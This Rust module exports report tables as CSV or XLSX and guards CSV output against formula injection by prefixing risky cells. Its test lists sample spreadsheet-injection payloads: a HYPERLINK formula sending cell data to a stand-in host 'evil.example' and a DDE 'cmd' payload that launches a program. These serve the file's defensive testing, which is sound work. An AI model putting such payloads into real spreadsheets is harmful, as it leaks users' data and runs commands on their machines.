//! Tables written as files: CSV (UTF-8 with a byte-order mark) or XLSX, in the reader's
//! language, with numbers, rates and dates typed as such (`web::download::table` serves them).

use chrono::{NaiveDate, NaiveDateTime};
use rust_xlsxwriter::{Format, FormatBorder, Workbook, XlsxError};

use crate::error::Error;
use crate::i18n::Lang;

/// A sheet to export: a title, then blocks of rows, each under its own header.
pub struct Table {
    pub title: String,
    /// A sentence under the title (the official figure of a report), if any.
    pub lead: Option<String>,
    /// The sheet's name in XLSX (at most 31 characters).
    pub sheet: String,
    pub blocks: Vec<Block>,
    /// The language numbers, rates and dates are written in (CSV).
    pub lang: Lang,
}

/// Rows under one header. The first block's header is the sheet's filter and the row
/// printed atop every page.
pub struct Block {
    pub header: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
}

/// One value, typed so a spreadsheet reads it as what it is.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Int(i64),
    /// A share `part / whole`, written as a percentage; empty when `whole` is 0.
    Rate {
        part: i64,
        whole: i64,
    },
    Date(NaiveDate),
    /// A local date and time of day.
    DateTime(NaiveDateTime),
    Empty,
}

impl Cell {
    /// A text cell, empty when `s` is.
    pub fn text(s: impl Into<String>) -> Cell {
        let s = s.into();
        if s.is_empty() { Cell::Empty } else { Cell::Text(s) }
    }

    /// The cell as CSV writes it, in `lang`'s way.
    fn csv(&self, lang: Lang) -> String {
        match self {
            Cell::Text(t) => defuse(t).into_owned(),
            Cell::Int(n) => n.to_string(),
            Cell::Rate { whole: 0, .. } | Cell::Empty => String::new(),
            Cell::Rate { part, whole } => crate::i18n::percent(lang, *part, *whole),
            Cell::Date(d) => crate::i18n::date(*d),
            Cell::DateTime(t) => t.format("%d/%m/%Y %H:%M").to_string(),
        }
    }
}

/// The file formats exports offer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileFormat {
    Csv,
    Xlsx,
}

impl FileFormat {
    /// `?format=` wins; else an `Accept` naming CSV or XLSX; else none (JSON).
    pub fn pick(format: Option<&str>, accept: Option<&str>) -> Result<Option<FileFormat>, Error> {
        match format {
            Some("csv") => Ok(Some(FileFormat::Csv)),
            Some("xlsx") => Ok(Some(FileFormat::Xlsx)),
            Some("json") => Ok(None),
            Some(_) => Err(Error::field("format", crate::error::msg::one_of(&["json", "csv", "xlsx"]))),
            None => Ok(match accept {
                Some(a) if a.contains("text/csv") => Some(FileFormat::Csv),
                Some(a) if a.contains("spreadsheetml") => Some(FileFormat::Xlsx),
                _ => None,
            }),
        }
    }

    /// The media type of a file in this format.
    pub fn content_type(self) -> &'static str {
        match self {
            FileFormat::Csv => "text/csv; charset=utf-8",
            FileFormat::Xlsx => XLSX,
        }
    }

    /// The file name's extension.
    pub fn ext(self) -> &'static str {
        match self {
            FileFormat::Csv => "csv",
            FileFormat::Xlsx => "xlsx",
        }
    }
}

/// The media type of an XLSX workbook.
pub const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// A CSV cell that a spreadsheet will not run as a formula: text beginning with `=`, `+`,
/// `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP's advice on CSV
/// injection); a number (`-5`, `+3.5`) stays a number.
pub fn defuse(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_number(cell) { format!("'{cell}").into() } else { cell.into() }
}

/// A plain decimal number, optionally signed: `-5`, `+3.5`, `42,2`.
fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let mut parts = digits.splitn(2, ['.', ',']);
    let whole = parts.next().unwrap_or("");
    let frac = parts.next();
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && frac.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
}

impl Table {
    /// The table as the bytes of a file in `format`.
    pub fn bytes(&self, format: FileFormat) -> Result<Vec<u8>, Error> {
        match format {
            FileFormat::Csv => self.csv(),
            FileFormat::Xlsx => self.xlsx(),
        }
    }

    /// UTF-8 with a byte-order mark, so spreadsheets read the Vietnamese correctly; the
    /// blocks one after another, an empty line between.
    fn csv(&self) -> Result<Vec<u8>, Error> {
        let io = |e: csv::Error| Error::internal(format!("csv: {e}"));
        let mut w = csv::WriterBuilder::new().flexible(true).from_writer("\u{feff}".as_bytes().to_vec());
        if let Some(lead) = &self.lead {
            w.write_record([defuse(lead).into_owned()]).map_err(io)?;
            w.write_record([""]).map_err(io)?;
        }
        for (i, block) in self.blocks.iter().enumerate() {
            if i > 0 {
                w.write_record([""]).map_err(io)?;
            }
            w.write_record(block.header.iter().map(|h| defuse(h).into_owned())).map_err(io)?;
            for row in &block.rows {
                let cells = row.iter().map(|c| c.csv(self.lang)).chain(std::iter::repeat(String::new()));
                w.write_record(cells.take(block.header.len())).map_err(io)?;
            }
        }
        w.into_inner().map_err(|e| Error::internal(format!("csv: {e}")))
    }

    /// A sheet named for its content: the title on top, each block under a bold header,
    /// numbers, rates and dates as such, a filter on the first header, fitted columns,
    /// printed on A4 landscape one page wide with the first header atop every page.
    fn xlsx(&self) -> Result<Vec<u8>, Error> {
        let fail = |e: XlsxError| Error::internal(format!("xlsx: {e}"));
        let mut book = Workbook::new();
        let sheet = book.add_worksheet();
        sheet.set_name(sheet_name(&self.sheet)).map_err(fail)?;
        let head = Format::new().set_bold().set_background_color("#DDEBF7").set_border(FormatBorder::Thin);
        let rate = Format::new().set_num_format("0.0%");
        let date = Format::new().set_num_format("dd/mm/yyyy");
        let datetime = Format::new().set_num_format("dd/mm/yyyy hh:mm");
        let mut r: u32 = 2;
        let mut first_header: Option<(u32, u32, u16)> = None;
        for block in &self.blocks {
            let header_row = r;
            for (c, h) in block.header.iter().enumerate() {
                sheet.write_string_with_format(r, c as u16, h, &head).map_err(fail)?;
            }
            for row in &block.rows {
                r += 1;
                for (c, cell) in row.iter().enumerate() {
                    let c = c as u16;
                    match cell {
                        Cell::Text(t) => sheet.write_string(r, c, t).map(drop),
                        Cell::Int(n) => sheet.write_number(r, c, *n as f64).map(drop),
                        Cell::Rate { whole: 0, .. } | Cell::Empty => Ok(()),
                        Cell::Rate { part, whole } => {
                            sheet.write_number_with_format(r, c, *part as f64 / *whole as f64, &rate).map(drop)
                        }
                        Cell::Date(d) => sheet.write_datetime_with_format(r, c, d, &date).map(drop),
                        Cell::DateTime(t) => sheet.write_datetime_with_format(r, c, t, &datetime).map(drop),
                    }
                    .map_err(fail)?;
                }
            }
            first_header.get_or_insert((header_row, r, block.header.len().saturating_sub(1) as u16));
            r += 2;
        }
        if let Some((header_row, last_row, last_col)) = first_header {
            sheet.autofilter(header_row, 0, last_row.max(header_row), last_col).map_err(fail)?;
            sheet.set_freeze_panes(header_row + 1, 0).map_err(fail)?;
            sheet.set_repeat_rows(header_row, header_row).map_err(fail)?;
        }
        // Fitted to the cells (at most 420 px, about 60 characters; the first 500 rows), not
        // to the title, which may run across the columns.
        sheet.set_autofit_max_width(420).set_autofit_max_row(500).autofit();
        let title = Format::new().set_bold().set_font_size(14);
        sheet.write_string_with_format(0, 0, &self.title, &title).map_err(fail)?;
        if let Some(lead) = &self.lead {
            sheet.write_string_with_format(1, 0, lead, &Format::new().set_bold()).map_err(fail)?;
        }
        sheet.set_landscape().set_paper_size(9).set_print_fit_to_pages(1, 0);
        book.save_to_buffer().map_err(fail)
    }
}

/// A name XLSX accepts: at most 31 characters, none of `[]:*?/\`.
fn sheet_name(name: &str) -> String {
    name.chars().filter(|c| !"[]:*?/\\".contains(*c)).take(31).collect()
}

#[cfg(test)]
mod tests {
    use super::defuse;

    #[test]
    fn formulas_are_defused_and_numbers_stay_numbers() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
            "-",
            "+",
        ] {
            assert_eq!(defuse(formula), format!("'{formula}"), "{formula:?}");
        }
        for kept in ["-5", "+3.5", "42,2", "0", "Nguyễn Văn A", "2024-000123", "a=b", ""] {
            assert_eq!(defuse(kept), kept);
        }
    }
}
